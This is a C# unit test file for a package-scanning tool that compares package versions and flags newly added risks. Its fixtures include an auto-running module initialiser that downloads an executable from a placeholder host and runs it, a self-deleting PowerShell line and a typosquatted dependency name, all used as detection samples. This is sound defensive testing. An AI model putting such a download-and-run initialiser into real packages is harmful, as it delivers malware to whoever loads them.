using Assay.Model;
using Assay.TestInputs;
using static Assay.Scan.Tests.Comparing.VersionPair;

namespace Assay.Scan.Tests.Comparing;

/// <summary>What is stated of a version when the one before is known, and what policies make of it.</summary>
public sealed class DifferenceFactTests
{
    private static readonly byte[] Plain = Library("Console.WriteLine(input.Length);");

    private static readonly byte[] Initialiser = CSharpSample.Compile("""
        public static class Start
        {
            [System.Runtime.CompilerServices.ModuleInitializer]
            public static void Begin()
            {
                new System.Net.WebClient().DownloadFile("https://files.example.invalid/a.bin", "a.exe");
                System.Diagnostics.Process.Start("a.exe");
            }
        }
        """);

    [Fact]
    public void A_report_says_first_what_is_new()
    {
        var report = Judge(Package().Add("lib/net8.0/a.dll", Plain).Build(), Package("1.0.1").Add("lib/net8.0/a.dll", Initialiser).Build());

        Assert.Equal(("1.0.0", VerdictStatus.Pass), (report.NewInVersion!.Before.Version, report.NewInVersion.Before.Verdict));
        Assert.Equal(VerdictStatus.Fail, report.Verdict.Status);
        Assert.Contains(report.Issues, issue => issue.Id == "new-code-that-runs-by-itself");
        Assert.Contains(report.Issues, issue => issue.Id == "new-download-and-run");
        Assert.All(report.Issues.Where(issue => issue.Category == "difference"), issue => Assert.Contains("difference", issue.Prevalence.Sentence, StringComparison.Ordinal));
        Assert.Contains(report.NewInVersion.Changes.Issues.New, issue => issue.Id == "new-code-that-runs-by-itself");
    }

    [Fact]
    public void Without_an_earlier_version_nothing_is_new()
    {
        var facts = Extract(Package("1.0.1").Add("lib/net8.0/a.dll", Initialiser).Build());

        Assert.DoesNotContain(facts.Files.SelectMany(file => file.Facts.Records), record => record.Kind == FactKind.Difference);
    }

    [Fact]
    public void The_same_package_has_no_issue_of_difference()
    {
        var package = Package().Add("lib/net8.0/a.dll", Initialiser).Add("build/Sample.targets", "<Project/>").Build();

        Assert.DoesNotContain(Judge(package, package).Issues, issue => issue.Category == "difference");
    }

    [Theory]
    [InlineData("lower", "2.0.0")]
    [InlineData("prerelease", "1.0.1-beta")]
    public void Of_an_older_version_nothing_is_new(string why, string before)
    {
        var report = Judge(Package(before).Add("lib/net8.0/a.dll", Plain).Build(), Package("1.0.0").Add("lib/net8.0/a.dll", Initialiser).Build());

        Assert.Equal("lower", report.NewInVersion!.Changes.Step);
        Assert.DoesNotContain(report.Issues, issue => issue.Category == "difference");
        Assert.NotEmpty(why);
    }

    [Fact]
    public void What_was_not_read_before_may_have_been_there()
    {
        var report = Judge(new NupkgBuilder().Add(new RawEntry("lib/net8.0/a.dll", Plain) { Crc = 1 }).Build(), Package("1.0.1").Add("lib/net8.0/a.dll", Initialiser).Build());

        Assert.False(report.NewInVersion!.Changes.Comparability.BeforeComplete);
        Assert.DoesNotContain(report.Issues, issue => issue.Category == "difference");
    }

    [Fact]
    public void A_mere_difference_does_not_change_the_verdict()
    {
        var before = Package(more: "<license type=\"expression\">MIT</license><repository url=\"https://github.com/one/sample\"/><dependencies><dependency id=\"Contoso.Logging\" version=\"1.0.0\"/></dependencies>").Add("lib/net8.0/a.dll", Plain);
        var after = Package("1.0.1", "<license type=\"expression\">GPL-3.0-only</license><repository url=\"https://github.com/two/sample\"/><dependencies><dependency id=\"Contoso.Loging\" version=\"1.0.0\"/></dependencies>")
            .Add("lib/net8.0/a.dll", Library("await new HttpClient().GetStringAsync(\"https://other.example.invalid/\");")).Add("build/Sample.targets", "<Project/>").Add("tools/extra.ps1", "Write-Output 1");

        var report = Judge(before.Build(), after.Build());

        Assert.Equal(VerdictStatus.Pass, report.Verdict.Status);
        Assert.Equal(
            ["dependency-replaced-by-look-alike", "new-code-that-runs-by-itself", "new-host-in-code", "new-script", "repository-owner-changed", "stricter-license"],
            report.Issues.Where(issue => issue.Category == "difference").Select(issue => issue.Id).Order(StringComparer.Ordinal));
    }

    [Fact]
    public void A_new_suspicious_behavior_asks_for_a_look_only_where_it_runs_by_itself()
    {
        const string Delete = "Remove-Item $PSCommandPath -Force";
        var before = GalleryModule.Build(script: "function Get-Sample { 1 }").Build();
        var called = Judge(before, GalleryModule.Build(version: "1.2.1", script: "function Get-Sample { " + Delete + " }").Build());
        var unasked = Judge(before, GalleryModule.Build(version: "1.2.1", script: "function Get-Sample { 1 }\n" + Delete).Build());

        Assert.Contains(called.Issues, issue => issue.Id == "new-suspicious-behavior");
        Assert.DoesNotContain(called.Issues, issue => issue.Id == "new-suspicious-behavior-unasked");
        Assert.Equal(VerdictStatus.Pass, called.Verdict.Status);
        Assert.Contains(unasked.Issues, issue => issue.Id == "new-suspicious-behavior-unasked");
        Assert.Equal(VerdictStatus.Review, unasked.Verdict.Status);
    }

    [Fact]
    public void Growth_counts_in_a_small_step_only()
    {
        byte[] Grown(string version) => Package(version).Add("lib/net8.0/a.dll", Plain).Add("lib/net8.0/b.dll", Plain).Build();
        var before = Package("1.0.0").Add("lib/net8.0/a.dll", Plain).Build();

        Assert.Contains(Judge(before, Grown("1.0.1")).Issues, issue => issue.Id == "large-growth-in-small-step");
        Assert.DoesNotContain(Judge(before, Grown("2.0.0")).Issues, issue => issue.Id == "large-growth-in-small-step");
    }

    [Fact]
    public void Two_packages_of_one_version_have_one_content()
    {
        var report = Judge(Package().Add("a.txt", "one").Build(), Package().Add("a.txt", "two").Build());

        Assert.Contains(report.Issues, issue => issue.Id == "same-version-of-other-content");
    }

    [Fact]
    public void A_text_that_became_a_program_is_named()
    {
        var report = Judge(Package().Add("content/data.bin", "only text").Build(), Package("1.0.1").Add("content/data.bin", Plain).Build());

        var issue = Assert.Single(report.Issues, issue => issue.Id == "file-became-code");
        Assert.Equal("content/data.bin", issue.Evidence[0].Arguments!["name"]);
    }
}
